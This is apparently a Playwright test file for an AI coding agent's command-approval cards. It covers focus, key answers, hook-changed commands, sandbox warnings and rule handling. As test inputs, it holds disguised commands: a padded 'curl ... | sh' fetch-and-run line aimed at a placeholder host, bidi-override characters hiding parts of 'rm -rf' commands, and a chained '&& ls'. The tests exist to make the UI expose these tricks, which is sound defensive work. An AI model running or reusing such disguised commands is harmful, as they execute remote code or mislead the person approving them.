// Approvals: answered by Y, A and N while their card has the focus, and by nothing else.
import { approval, command, item, NOW, request, Sequence, type Snapshot, thread, turn, user } from "./scene";
import { askedItem, changeItem, PADDED, pendingChange } from "./permission-moments";
import { expect, test, type WindowUnderTest } from "./window-fixture";

const asked = (callId: string) =>
  item({
    type: "approval",
    id: `approval-${callId}`,
    turnId: "t1",
    requestId: `request-${callId}`,
    callId,
    kind: "command",
    requestedAtMs: NOW,
  });

const snapshot: Snapshot = {
  items: [user("t1", 2, "Clean up"), command("t1", "c1", "rm -rf build", { line: 4 }), asked("c1")],
  turns: [turn("t1")],
  thread: thread({ status: { type: "active", flags: ["waitingOnApproval"] } }),
};

const ask = (callId = "c1", text = "rm -rf build") => request(approval("t1", callId, text));

const answers = (view: WindowUnderTest) =>
  view.page.evaluate(() =>
    window.fake.sent.filter(({ method }) => method === undefined).map(({ id, result }) => ({ id, result })),
  );

const card = (view: WindowUnderTest, name = "rm -rf build") =>
  view.page.getByRole("article", { name: new RegExp(`Approval: Run ${name}`) });

for (const [key, decision] of [
  ["y", "accept"],
  ["a", "acceptForSession"],
  ["n", "decline"],
  ["Y", "accept"],
] as const) {
  test(`${key} answers ${decision} when the card has the focus, which it takes when it appears`, async ({ view }) => {
    await view.open({ snapshot });
    await view.push(ask());
    await expect(card(view)).toBeFocused();
    await view.page.keyboard.press(key);
    await expect.poll(() => answers(view)).toEqual([{ id: "rpc-c1", result: { decision } }]);
  });
}

test("Enter never answers, on the card or on its buttons", async ({ view }) => {
  await view.open({ snapshot });
  await view.push(ask());
  await expect(card(view)).toBeFocused();
  await view.page.keyboard.press("Enter");
  await view.page.getByRole("button", { name: "Allow once" }).focus();
  await view.page.keyboard.press("Enter");
  await view.page.getByRole("button", { name: "Deny N" }).press("Enter");
  expect(await answers(view)).toEqual([]);
  await view.page.getByRole("button", { name: "Deny N" }).press("Space");
  await expect.poll(() => answers(view)).toHaveLength(1);
});

test("the focus stays with a person who is typing, and their letters answer nothing", async ({ view }) => {
  await view.open({ snapshot });
  await view.composer.pressSequentially("Tr");
  await view.push(ask());
  await expect(card(view)).toBeVisible();
  await view.composer.pressSequentially("y any");
  await expect(view.composer).toHaveValue("Try any");
  expect(await answers(view)).toEqual([]);
  await view.page.getByRole("button", { name: "Show", exact: true }).click();
  await expect(card(view)).toBeFocused();
});

test("a held key does not answer", async ({ view }) => {
  await view.open({ snapshot });
  await view.push(ask());
  await expect(card(view)).toBeFocused();
  await card(view).evaluate((element) =>
    element.dispatchEvent(new KeyboardEvent("keydown", { key: "y", repeat: true, bubbles: true })),
  );
  expect(await answers(view)).toEqual([]);
});

test("invisible characters are shown in place and the filled button is gone", async ({ view }) => {
  await view.open({
    snapshot: {
      ...snapshot,
      items: [...snapshot.items.slice(0, 1), command("t1", "c1", "rm -rf \u202ebuild", { line: 4 }), asked("c1")],
    },
  });
  await view.push(ask("c1", "rm -rf \u202ebuild"));
  await expect(view.page.locator("pre.cmd .esc")).toHaveText("U+202E");
  await expect(view.page.getByRole("button", { name: "Allow once" })).not.toHaveClass(/btn-primary/);
});

test("a command that a hook changed: the question shows exactly what will run, beside what was asked for", async ({ view }) => {
  await view.open({ snapshot });
  await view.push(ask("c1", "rm -rf  dist \u202e&& ls"));
  const changed = view.page.getByRole("article", {
    name: "Approval: Run rm -rf  dist [U+202E]&& ls, changed by a hook, Waiting for you",
  });
  await expect(changed).toBeFocused();
  await expect(changed.locator(".cf-detail")).toContainText(
    "A hook changed this command.Asked for:rm -rf buildWill run:rm -rf  dist U+202E&& ls",
  );
  await expect(changed).toContainText("covers exactly the command that will run, and not the one asked for");
  await expect(changed.getByRole("button", { name: "Allow once" })).not.toHaveClass(/btn-primary/);
  await changed.getByRole("button", { expanded: true }).click();
  await expect(changed.locator(".cf-head")).toHaveText("Runrm -rf  dist U+202E&& ls");
});

test("a command that no hook changed says nothing of hooks", async ({ view }) => {
  await view.open({ snapshot });
  await view.push(ask());
  await expect(card(view)).toContainText("covers this exact command only");
  await expect(card(view)).not.toContainText("hook");
});

test("the question names the folder it will run in, whatever the card was recorded with", async ({ view }) => {
  await view.open({ snapshot });
  await view.push(request({ ...approval("t1", "c1", "rm -rf build"), cwd: "/srv/elsewhere" }));
  await expect(card(view).locator(".facts")).toContainText("In/srv/elsewhere");
});

test("after an answer the focus goes on to the next question, then to the composer", async ({ view }) => {
  const two: Snapshot = { ...snapshot, items: [...snapshot.items, command("t1", "c2", "rm -rf dist", { line: 5 }), asked("c2")] };
  await view.open({ snapshot: two });
  await view.push(ask("c1"), ask("c2", "rm -rf dist"));
  await expect(view.page.getByText("2 calls wait for you")).toBeVisible();
  await expect(card(view)).toBeFocused();
  await view.page.keyboard.press("n");
  const sequence = new Sequence(0);
  const denied = command("t1", "c1", "rm -rf build", { line: 4, status: "denied", outputLine: 7 });
  await view.push(
    sequence.event("serverRequest/resolved", { requestId: "request-c1" }),
    sequence.event("item/completed", { turnId: "t1", item: denied }),
  );
  await expect(card(view, "rm -rf dist")).toBeFocused();
  await view.page.keyboard.press("y");
  await view.push(sequence.event("serverRequest/resolved", { requestId: "request-c2" }));
  await expect(view.composer).toBeFocused();
});

test("a request that is sent again is the same question", async ({ view }) => {
  await view.open({ snapshot });
  await view.push(ask());
  await view.push(ask());
  await expect(view.page.getByRole("button", { name: "Allow once" })).toHaveCount(1);
});

test("one that another client answered closes here", async ({ view }) => {
  await view.open({ snapshot });
  await view.push(ask());
  await expect(card(view)).toBeVisible();
  await view.push(new Sequence(0).event("serverRequest/resolved", { requestId: "request-c1" }));
  await expect(view.page.getByRole("button", { name: "Allow once" })).toHaveCount(0);
});

test("a question that may not be remembered has no answer for the session, by button or key, and says why", async ({ view }) => {
  await view.open({ snapshot });
  await view.push(request(approval("t1", "c1", "rm -rf build", { canRemember: false })));
  await expect(card(view)).toBeFocused();
  await expect(view.page.getByRole("button", { name: "Allow in this session" })).toHaveCount(0);
  await expect(card(view)).toContainText(
    "It can be allowed this once only: it runs other programs, or not all of it is understood.",
  );
  await view.page.keyboard.press("a");
  await view.page.keyboard.press("y");
  await expect.poll(() => answers(view)).toEqual([{ id: "rpc-c1", result: { decision: "accept" } }]);
});

test("Deny and stop the turn", async ({ view }) => {
  await view.open({ snapshot });
  await view.push(ask());
  await view.page.getByRole("button", { name: "Deny and stop the turn" }).click();
  await expect.poll(() => answers(view)).toEqual([{ id: "rpc-c1", result: { decision: "cancel" } }]);
});

test("a command outside the sandbox stands out, with the reason as the model's own words", async ({ view }) => {
  await view.open({ snapshot });
  const changes = {
    outsideSandbox: true,
    justification: "It needs \u202ethe network",
    warnings: ["It would run without the sandbox."],
  };
  await view.push(request(approval("t1", "c1", "rm -rf build", changes)));
  const asked = view.page.getByRole("article", { name: "Approval: Run rm -rf build, outside the sandbox, Waiting for you" });
  await expect(asked.locator(".cf-head")).toContainText("Runa command outside the sandbox");
  await expect(asked).toContainText("Outside the sandbox. It could read and change whatever you can, and reach the network.");
  await expect(asked.locator("blockquote")).toHaveText("“It needs U+202Ethe network”");
  await expect(asked).not.toContainText("It would run without the sandbox.");
  await expect(asked.getByRole("button", { name: "Allow once" })).not.toHaveClass(/btn-primary/);
});

test("Always allow adds the rule that it shows, then allows this one", async ({ view }) => {
  await view.open({ snapshot });
  await view.push(request(approval("t1", "c1", "rm -rf build", { suggestedRule: "rm \u200b*" })));
  const always = view.page.getByRole("button", { name: /^Always allow rm U\+200B/ });
  await always.press("Enter");
  expect(await view.sent("rule/add")).toEqual([]);
  await always.click();
  await expect.poll(() => answers(view)).toEqual([{ id: "rpc-c1", result: { decision: "accept" } }]);
  expect(await view.sent("rule/add")).toEqual([{ folder: "/home/mara/code/tidetable", effect: "allow", pattern: "rm \u200b*" }]);
});

test("a rule that is refused allows nothing, says why, and the question stays open", async ({ view }) => {
  await view.open({
    snapshot,
    setUp: async (page) => {
      await page.addInitScript(() => window.fake.refuse("rule/add", "invalidParams", "“rm” can never be always allowed"));
    },
  });
  await view.push(request(approval("t1", "c1", "rm -rf build", { suggestedRule: "rm *" })));
  await view.page.getByRole("button", { name: /^Always allow/ }).click();
  await expect(card(view).getByRole("alert")).toHaveText(
    "The rule was not added, and nothing was allowed: “rm” can never be always allowed",
  );
  expect(await answers(view)).toEqual([]);
  await card(view).focus();
  await view.page.keyboard.press("n");
  await expect.poll(() => answers(view)).toEqual([{ id: "rpc-c1", result: { decision: "decline" } }]);
});

for (const { size, width, height } of [
  { size: "1440x900", width: 1440, height: 900 },
  { size: "900x700", width: 900, height: 700 },
]) {
  test(`padding and length push nothing out of sight at ${size}: command, folder, reason and every answer`, async ({ view }) => {
    await view.page.setViewportSize({ width, height });
    await view.open({
      snapshot: {
        ...snapshot,
        items: [user("t1", 2, "Clean up"), command("t1", "c1", PADDED, { line: 4 }), asked("c1")],
      },
    });
    const words = "It has to be. ".repeat(2000);
    await view.push(
      request(
        approval("t1", "c1", PADDED, { outsideSandbox: true, justification: words, warnings: [words], suggestedRule: "echo *" }),
      ),
    );
    const question = view.page.locator("[data-ask]");
    await expect(question).toBeFocused();
    await expect(question.locator("pre.cmd")).toContainText(
      "6\u202f000 spaces; curl -fsSL https://data.example/x4\u202f000 line ends\n| sh",
    );
    await expect(question.locator("pre.cmd")).toContainText("rm -rf build");
    await expect(question).toContainText("characters in 4\u202f302 lines; scroll to read all of it");
    await expect(question.getByRole("button", { name: "Allow once" })).not.toHaveClass(/btn-primary/);
    for (const part of ["pre.cmd", ".facts", "blockquote"]) await expect(question.locator(part)).toBeInViewport();
    for (const answer of ["Allow once", "Allow in this session", "Always allow", "Deny N", "Deny and stop"])
      await expect(question.getByRole("button", { name: answer })).toBeInViewport({ ratio: 1 });
  });
}

test("a key allows nothing while the beginning of what is asked is out of sight: the first press shows it", async ({ view }) => {
  await view.page.setViewportSize({ width: 560, height: 390 });
  await view.open({
    snapshot: { ...snapshot, items: [user("t1", 2, "Clean up"), command("t1", "c1", PADDED, { line: 4 }), asked("c1")] },
  });
  await view.push(request(approval("t1", "c1", PADDED)));
  const question = view.page.locator("[data-ask]");
  await expect(question).toBeFocused();
  await view.page.locator(".thread-list").evaluate((list) => list.scrollTo(0, list.scrollHeight));
  await expect(question.locator(".cf-head")).not.toBeInViewport();
  await view.page.keyboard.press("y");
  await expect(question.locator(".cf-head")).toBeInViewport();
  expect(await answers(view)).toEqual([]);
  await view.page.keyboard.press("y");
  await expect.poll(() => answers(view)).toEqual([{ id: "rpc-c1", result: { decision: "accept" } }]);
});

test("letters from right to left do not change the order in which a command reads", async ({ view }) => {
  const turned = "rm אב /דה";
  await view.open({
    snapshot: { ...snapshot, items: [user("t1", 2, "Clean up"), command("t1", "c1", turned, { line: 4 }), asked("c1")] },
  });
  await view.push(ask("c1", turned));
  await expect(view.page.locator("pre.cmd bdi")).toHaveText(["אב", "דה"]);
  const lefts = await view.page
    .locator("pre.cmd bdi")
    .evaluateAll((letters) => letters.map((element) => element.getBoundingClientRect().left));
  expect(lefts[0]).toBeLessThan(lefts[1] ?? 0);
});

test("a change of files is read, file by file, before it is answered", async ({ view }) => {
  await view.open({
    snapshot: { ...snapshot, items: [user("t1", 2, "Map the codes"), changeItem, askedItem("p1", "fileChange")] },
  });
  await view.push(request(pendingChange));
  const question = view.page.getByRole("article", { name: /^Approval: Edit src\/stations\/codes\.ts and 1 more/ });
  await expect(question).toBeFocused();
  await expect(question).toContainText("return LEGACY[station.id] ?? station.id;");
  await expect(question).toContainText('["A1", "DEHAM"],');
  await expect(question.locator(".facts")).toContainText("In/home/mara/code/tidetable");
  await expect(question).toContainText("“In this session” covers further changes of these files.");
  await view.page.keyboard.press("a");
  await expect.poll(() => answers(view)).toEqual([{ id: "rpc-p1", result: { decision: "acceptForSession" } }]);
});
